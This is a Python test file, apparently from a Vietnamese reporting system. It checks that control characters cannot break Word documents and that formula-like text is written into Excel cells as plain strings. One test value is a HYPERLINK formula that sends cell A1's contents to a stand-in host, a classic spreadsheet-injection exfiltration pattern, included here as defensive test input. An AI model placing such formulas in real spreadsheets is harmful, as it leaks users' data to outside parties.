"""Text that reaches an office document cannot break it or run in it."""

from __future__ import annotations

import io

import openpyxl
from docx import Document

from shared.document_text import clean_tree, text_only, xml_text


def test_a_control_character_in_a_reason_no_longer_breaks_the_docx():
    reason = "Hồ sơ\u0006 chưa đủ \x0bgiấy tờ\tcần bổ sung\r\n(lần 1)"
    document = Document()
    document.add_paragraph(xml_text(reason))
    buffer = io.BytesIO()
    document.save(buffer)
    text = Document(io.BytesIO(buffer.getvalue())).paragraphs[0].text
    assert text.split() == "Hồ sơ chưa đủ giấy tờ cần bổ sung (lần 1)".split()  # breaks become breaks


def test_text_that_looks_like_a_formula_is_written_as_text():
    report = clean_tree({"units": [{"name": '=HYPERLINK("http://x.example/?"&A1,"Xem")', "score": 91.5},
                                   {"name": "+84 24 3825 3536", "score": None}], "title": "Báo cáo\x00 tháng"})
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.cell(1, 1, report["title"])
    for row, unit in enumerate(report["units"], start=2):
        sheet.cell(row, 1, unit["name"])
        sheet.cell(row, 2, unit["score"])
    text_only(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    read = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    assert read["A1"].value == "Báo cáo tháng"
    assert read["A2"].value == '=HYPERLINK("http://x.example/?"&A1,"Xem")' and read["A2"].data_type == "s"
    assert read["A3"].value == "+84 24 3825 3536" and read["A3"].data_type == "s"
    assert read["B2"].value == 91.5 and read["B2"].data_type == "n"
